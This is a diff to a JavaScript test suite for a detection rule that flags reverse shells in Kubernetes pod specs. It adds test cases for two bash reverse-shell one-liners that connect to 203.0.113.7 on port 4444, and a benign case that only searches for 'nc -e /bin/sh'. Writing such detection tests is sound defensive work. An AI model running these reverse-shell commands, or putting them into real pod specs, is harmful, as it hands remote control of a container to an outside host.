@@ -29,6 +29,14 @@ describe('rule reverse-shell-in-spec', () => {
           request: pod(running(...SHELL), ownedByReplicaSet('Job')),
         },
       ],
+      [
+        'behind something that looks',
+        { request: pod(running('bash', '-c', 'ls|bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')) },
+      ],
+      [
+        'a shell that reads from a connection',
+        { request: pod(running('bash', '-c', 'bash </dev/tcp/203.0.113.7/4444')) },
+      ],
       ['refused', { code: 7 }, { severity: 'high', confidence: 0.75 }],
       ['failed', { code: 3 }, { severity: 'high', confidence: 0.75 }],
     ],
@@ -37,6 +45,7 @@ describe('rule reverse-shell-in-spec', () => {
         'who waits for a database',
         { request: pod(running('sh', '-c', 'until (echo > /dev/tcp/db/5432); do sleep 1; done')) },
       ],
+      ['who looks for one', { request: pod(running('sh', '-c', 'ps aux|grep "nc -e /bin/sh"')) }],
       ['who probes a port', { request: pod(running('nc', '-z', 'db', '5432')) }],
       ['a program of its own', { request: pod(running('/app/server', '--listen', ':8080')) }],
       ['a variable', { request: pod(podSpec({ env: [{ name: 'DOC', value: SHELL.join(' ') }] })) }],
